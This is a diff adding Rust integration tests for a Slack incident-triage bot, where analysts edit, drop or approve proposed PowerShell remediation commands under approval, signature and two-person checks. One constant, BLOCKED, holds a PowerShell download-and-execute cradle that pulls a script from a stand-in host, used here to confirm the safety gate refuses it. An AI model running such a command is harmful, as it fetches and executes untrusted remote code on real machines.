@@ -1,0 +1,503 @@
+//! Analysts in control: Edit… a proposal and pick its commands before approving, ask for a
+//! revision, and the response times recorded with the evidence.
+//!
+//! The tests act as Slack does: a signed click on Edit… carries a `trigger_id`, the app opens a
+//! modal with it (`views.open`, then `views.update`), and the person's submit is a signed
+//! `view_submission` whose `view.state.values` the emulator builds from the modal's inputs.
+
+use serde_json::{Map, Value, json};
+
+use crate::common::*;
+use triage_bot::pipeline::approval::blocks::{ACTION_EDIT, EDIT_CALLBACK};
+
+const BLOCKED: &str =
+    "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example/fix.ps1')";
+
+/// Clicks Edit… as `user` and waits for the modal to hold the editor.
+async fn open_editor(world: &World, app: &triage_bot::app::RunningApp, user: &str) -> String {
+    let (status, _) = world.click(app, user, ACTION_EDIT).await.unwrap();
+    assert_eq!(status, 200);
+    world
+        .slack
+        .wait_until("the Edit… modal", T, |s| {
+            s.views
+                .iter()
+                .any(|v| v.view["callback_id"] == EDIT_CALLBACK && !v.closed)
+        })
+        .await
+        .unwrap();
+    world
+        .slack
+        .views()
+        .into_iter()
+        .rev()
+        .find(|v| v.view["callback_id"] == EDIT_CALLBACK)
+        .unwrap()
+        .id
+}
+
+fn text(value: &str) -> Value {
+    json!({ "type": "plain_text_input", "value": value })
+}
+
+fn unticked() -> Value {
+    json!({ "type": "checkboxes", "selected_options": [] })
+}
+
+async fn submit(
+    world: &World,
+    app: &triage_bot::app::RunningApp,
+    view_id: &str,
+    user: &str,
+    overrides: &[(&str, Value)],
+) -> (u16, Value) {
+    let overrides: Map<String, Value> = overrides
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.clone()))
+        .collect();
+    world
+        .slack
+        .submit_view(
+            &format!("{}/slack/interactions", app.url()),
+            SIGNING_SECRET,
+            view_id,
+            user,
+            &overrides,
+        )
+        .await
+        .unwrap()
+}
+
+#[tokio::test]
+async fn edit_then_approve_runs_exactly_the_edited_commands() {
+    let world = World::start().await.unwrap();
+    let app = world.start_app().await.unwrap();
+    wait_for_approval_request(&world).await;
+    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+
+    let view_id = open_editor(&world, &app, HANDLER_ID).await;
+    let view = world
+        .slack
+        .views()
+        .into_iter()
+        .find(|v| v.id == view_id)
+        .unwrap();
+    // Every command prefilled in its own multiline field, with the host read-only above.
+    let inputs: Vec<&Value> = view.view["blocks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|b| b["element"]["type"] == "plain_text_input")
+        .collect();
+    assert_eq!(inputs.len(), COMMANDS.len());
+    assert_eq!(inputs[0]["element"]["initial_value"], COMMANDS[0].0);
+    assert_eq!(inputs[0]["element"]["multiline"], true);
+    assert!(view.view["blocks"][0].to_string().contains(HOST));
+
+    let edited = "Get-Process -Id 3312 | Select-Object Id,ProcessName,Path";
+    world.winrm.set_response(
+        edited,
+        "3312 WmiPrvSE C:\\Windows\\System32\\wbem\\WmiPrvSE.exe\r\n",
+        "",
+        0,
+    );
+    let (status, answer) = submit(
+        &world,
+        &app,
+        &view_id,
+        HANDLER_ID,
+        &[
+            ("cmd:1:text", text(edited)),
+            ("cmd:4:run", unticked()),
+            ("cmd:7:run", unticked()),
+        ],
+    )
+    .await;
+    assert_eq!((status, answer), (200, Value::Null), "the modal closes");
+    let done = wait_for_state(&app, IncidentState::Executed, T)
+        .await
+        .unwrap();
+    wait_for_batch_summary(&world).await;
+
+    let mut expected: Vec<String> = COMMANDS.iter().map(|(c, _)| c.to_string()).collect();
+    expected[0] = edited.to_string();
+    expected.remove(6);
+    expected.remove(3);
+    let ran: Vec<String> = world
+        .winrm
+        .executed()
+        .into_iter()
+        .filter_map(|e| e.script)
+        .collect();
+    assert_eq!(ran, expected, "exactly the edited list ran, in order");
+
+    // Bound to the edited list under a new hash; decided by the submitter.
+    assert_ne!(done.approval_hash, before.approval_hash);
+    assert_eq!(done.decided_by.as_deref(), Some(HANDLER_ID));
+    let edits = app.ctx.store.proposal_edits(&done.id).await.unwrap();
+    let change = |seq: i64| {
+        edits
+            .iter()
+            .find(|e| e.seq == seq)
+            .map(|e| (e.change.as_str(), e.after_text.as_deref()))
+            .unwrap()
+    };
+    assert_eq!(change(1), ("edited", Some(edited)));
+    assert_eq!(change(4), ("dropped", None));
+    assert_eq!(change(2), ("unchanged", Some(COMMANDS[1].0)));
+    assert!(edits.iter().all(|e| e.edited_by == HANDLER_ID));
+    let audit = app.ctx.store.audit_trail(&done.id).await.unwrap();
+    assert!(audit.iter().any(|a| a.event == "ProposalEdited"));
+
+    // The thread and the case both say what changed, by whom, and the final list.
+    wait_for_message(&world, "the edit note in the thread", |m| {
+        m.thread_ts.is_some() && m.text.contains(":pencil2:") && m.text.contains("dropped")
+    })
+    .await;
+    let case = wait_for_record(&world, &app).await;
+    let comments = comment_texts(&case);
+    let note = comments
+        .iter()
+        .find(|c| c.starts_with("**Proposal edited**"))
+        .expect("the edit is in the case");
+    assert!(note.contains(&format!("edited: `{}` → `{edited}`", COMMANDS[0].0)));
+    assert!(note.contains("**Final list:**"));
+    assert!(comments.iter().any(|c| c.starts_with("**Approved**")));
+    finish(&world, app).await;
+}
+
+#[tokio::test]
+async fn a_blocked_edit_is_refused_with_a_field_error_and_nothing_changes() {
+    let world = World::start().await.unwrap();
+    let app = world.start_app().await.unwrap();
+    wait_for_approval_request(&world).await;
+    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+
+    let view_id = open_editor(&world, &app, HANDLER_ID).await;
+    let (status, answer) = submit(
+        &world,
+        &app,
+        &view_id,
+        HANDLER_ID,
+        &[("cmd:2:text", text(BLOCKED)), ("cmd:5:text", text("   "))],
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_eq!(answer["response_action"], "errors", "{answer}");
+    let errors = answer["errors"].as_object().unwrap();
+    assert!(
+        errors["cmd:2:text"]
+            .as_str()
+            .unwrap()
+            .starts_with("Blocked by the safety gate"),
+        "{answer}"
+    );
+    assert!(errors["cmd:5:text"].as_str().unwrap().contains("empty"));
+    let v = world
+        .slack
+        .views()
+        .into_iter()
+        .find(|v| v.id == view_id)
+        .unwrap();
+    assert!(!v.closed && v.errors.is_some(), "the modal stays open");
+
+    let now = app.ctx.store.incident(&before.id).await.unwrap().unwrap();
+    assert_eq!(now.state, IncidentState::AwaitingApproval);
+    assert_eq!(now.approval_hash, before.approval_hash);
+    let texts: Vec<String> = app
+        .ctx
+        .store
+        .commands(&before.id)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|c| c.text)
+        .collect();
+    assert_eq!(texts[1], COMMANDS[1].0);
+    assert!(
+        app.ctx
+            .store
+            .proposal_edits(&before.id)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+
+    // The original buttons still work: the refusal changed nothing.
+    world.click(&app, HANDLER_ID, ACTION_DECLINE).await.unwrap();
+    wait_for_state(&app, IncidentState::Declined, T)
+        .await
+        .unwrap();
+    assert!(world.winrm.executed().is_empty());
+    finish(&world, app).await;
+}
+
+#[tokio::test]
+async fn an_unauthorised_submission_changes_nothing() {
+    let world = World::start().await.unwrap();
+    let app = world.start_app().await.unwrap();
+    wait_for_approval_request(&world).await;
+    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+
+    // Someone who is not an approver cannot get the editor…
+    world.click(&app, OTHER_USER, ACTION_EDIT).await.unwrap();
+    world
+        .slack
+        .wait_until("the refusal modal", T, |s| {
+            s.views
+                .iter()
+                .any(|v| v.view.to_string().contains("You are not an approver"))
+        })
+        .await
+        .unwrap();
+    // …and submitting the handler's modal as them (a forged submission) changes nothing.
+    let view_id = open_editor(&world, &app, HANDLER_ID).await;
+    let (status, answer) = submit(
+        &world,
+        &app,
+        &view_id,
+        OTHER_USER,
+        &[("cmd:1:text", text("Get-Date"))],
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_eq!(answer["response_action"], "update");
+    assert!(answer["view"].to_string().contains("not an approver"));
+
+    let now = app.ctx.store.incident(&before.id).await.unwrap().unwrap();
+    assert_eq!(now.state, IncidentState::AwaitingApproval);
+    assert_eq!(now.approval_hash, before.approval_hash);
+    assert!(now.acknowledged_at.is_none());
+    let audit = app.ctx.store.audit_trail(&before.id).await.unwrap();
+    assert_eq!(
+        audit
+            .iter()
+            .filter(|a| a.event == "EditRefused" && a.actor == OTHER_USER)
+            .count(),
+        2
+    );
+    // A bad signature is refused before anything is read.
+    let payload = world
+        .slack
+        .view_submission(&view_id, HANDLER_ID, &Map::new())
+        .unwrap();
+    let (status, _) = emulators::slack::post_interaction(
+        &format!("{}/slack/interactions", app.url()),
+        "not-the-secret",
+        &payload,
+        chrono::Utc::now().timestamp(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(status, 401);
+    assert_eq!(
+        app.ctx
+            .store
+            .incident(&before.id)
+            .await
+            .unwrap()
+            .unwrap()
+            .state,
+        IncidentState::AwaitingApproval
+    );
+    assert!(world.winrm.executed().is_empty());
+    finish(&world, app).await;
+}
+
+#[tokio::test]
+async fn a_stale_view_after_someone_else_decided_changes_nothing() {
+    let world = World::start().await.unwrap();
+    world.slack.add_user("U0BOB", "bob", "Bob Second", None);
+    let app = world
+        .start_app_with(&[("SLACK_APPROVERS", "U0BOB")])
+        .await
+        .unwrap();
+    wait_for_approval_request(&world).await;
+    let root = top_level(&world).remove(0);
+    let edit_value = triage_bot::demo::button_value(&root.blocks, ACTION_EDIT).unwrap();
+
+    let view_id = open_editor(&world, &app, HANDLER_ID).await;
+    // Meanwhile Bob declines.
+    world.click(&app, "U0BOB", ACTION_DECLINE).await.unwrap();
+    wait_for_state(&app, IncidentState::Declined, T)
+        .await
+        .unwrap();
+
+    let (status, answer) = submit(
+        &world,
+        &app,
+        &view_id,
+        HANDLER_ID,
+        &[("cmd:1:text", text("Get-Date"))],
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_eq!(answer["response_action"], "update", "{answer}");
+    assert!(answer["view"].to_string().contains("already declined"));
+    assert!(answer["view"].to_string().contains("U0BOB"));
+
+    // Clicking Edit… now (a stale client still shows the button) says why nothing can change.
+    world
+        .click_value(&app, HANDLER_ID, &root.ts, ACTION_EDIT, &edit_value)
+        .await
+        .unwrap();
+    world
+        .slack
+        .wait_until("the nothing-can-change modal", T, |s| {
+            s.views.iter().any(|v| {
+                v.view["title"]["text"] == "Nothing can change"
+                    && v.view.to_string().contains("already declined")
+            })
+        })
+        .await
+        .unwrap();
+    let incident = app.ctx.store.incidents().await.unwrap().remove(0);
+    assert_eq!(incident.state, IncidentState::Declined);
+    assert!(
+        app.ctx
+            .store
+            .proposal_edits(&incident.id)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+    assert!(world.winrm.executed().is_empty());
+    finish(&world, app).await;
+}
+
+#[tokio::test]
+async fn under_the_two_person_rule_an_edit_is_the_first_approval_of_the_edited_list() {
+    let world = World::start().await.unwrap();
+    world.slack.add_user("U0BOB", "bob", "Bob Second", None);
+    let app = world
+        .start_app_with(&[
+            ("APPROVAL_TWO_PERSON_REMEDIATION", "true"),
+            ("SLACK_APPROVERS", "U0BOB"),
+        ])
+        .await
+        .unwrap();
+    wait_for_approval_request(&world).await;
+    let old_value =
+        triage_bot::demo::button_value(&top_level(&world)[0].blocks, ACTION_APPROVE).unwrap();
+
+    let view_id = open_editor(&world, &app, HANDLER_ID).await;
+    let (_, answer) = submit(
+        &world,
+        &app,
+        &view_id,
+        HANDLER_ID,
+        &[("cmd:8:run", unticked())],
+    )
+    .await;
+    assert_eq!(answer, Value::Null);
+    wait_for_message(&world, "the first-approval note on the card", |m| {
+        m.thread_ts.is_none()
+            && m.blocks
+                .to_string()
+                .contains("needs a second, different approver")
+    })
+    .await;
+    let incident = app.ctx.store.incidents().await.unwrap().remove(0);
+    assert_eq!(incident.state, IncidentState::AwaitingApproval);
+    assert_eq!(incident.first_approver.as_deref(), Some(HANDLER_ID));
+    assert!(world.winrm.executed().is_empty());
+
+    // A click carrying the old list's hash approves nothing.
+    let root = top_level(&world).remove(0);
+    world
+        .click_value(&app, "U0BOB", &root.ts, ACTION_APPROVE, &old_value)
+        .await
+        .unwrap();
+    wait_for_ephemeral(&world, "the stale-button note", |e| {
+        e.user == "U0BOB" && e.text.contains("no longer matches")
+    })
+    .await;
+    // Bob approves the card as it stands now: the edited list runs.
+    world.click(&app, "U0BOB", ACTION_APPROVE).await.unwrap();
+    wait_for_state(&app, IncidentState::Executed, T)
+        .await
+        .unwrap();
+    wait_for_batch_summary(&world).await;
+    let ran: Vec<String> = world
+        .winrm
+        .executed()
+        .into_iter()
+        .filter_map(|e| e.script)
+        .collect();
+    let expected: Vec<String> = COMMANDS[..7].iter().map(|(c, _)| c.to_string()).collect();
+    assert_eq!(ran, expected);
+    finish(&world, app).await;
+}
+
+#[tokio::test]
+async fn over_socket_mode_field_errors_ride_on_the_envelope_ack() {
+    let world = World::start().await.unwrap();
+    world
+        .slack
+        .enable_socket_mode("xapp-1-emulated-app-token")
+        .await
+        .unwrap();
+    let app = world
+        .start_app_with(&[
+            ("SLACK_TRANSPORT", "socket"),
+            ("SLACK_APP_TOKEN", "xapp-1-emulated-app-token"),
+        ])
+        .await
+        .unwrap();
+    wait_for_approval_request(&world).await;
+    world
+        .slack
+        .wait_until("the app's WebSocket", T, |s| !s.socket_senders.is_empty())
+        .await
+        .unwrap();
+    let msg = top_level(&world).remove(0);
+    let value = triage_bot::demo::button_value(&msg.blocks, ACTION_EDIT).unwrap();
+    let click = emulators::slack::block_actions_payload(
+        HANDLER_ID,
+        "alice",
+        CHANNEL,
+        &msg.ts,
+        ACTION_EDIT,
+        &value,
+    );
+    world
+        .slack
+        .send_socket_envelope("interactive", click)
+        .unwrap();
+    world
+        .slack
+        .wait_until("the Edit… modal", T, |s| {
+            s.views
+                .iter()
+                .any(|v| v.view["callback_id"] == EDIT_CALLBACK)
+        })
+        .await
+        .unwrap();
+    let view_id = world.slack.views().pop().unwrap().id;
+    let mut overrides = Map::new();
+    overrides.insert("cmd:3:text".into(), text(BLOCKED));
+    let submission = world
+        .slack
+        .view_submission(&view_id, HANDLER_ID, &overrides)
+        .unwrap();
+    let envelope = world
+        .slack
+        .send_socket_envelope("interactive", submission)
+        .unwrap();
+    world
+        .slack
+        .wait_until("the ack with the errors", T, |s| {
+            s.socket_acks.iter().any(|a| {
+                a["envelope_id"] == envelope.as_str()
+                    && a["payload"]["response_action"] == "errors"
+                    && a["payload"]["errors"]["cmd:3:text"].is_string()
+            })
+        })
+        .await
+        .unwrap();
+    assert_eq!(
+        app.ctx.store.incidents().await.unwrap()[0].state,
+        IncidentState::AwaitingApproval
+    );
+    finish(&world, app).await;
+}
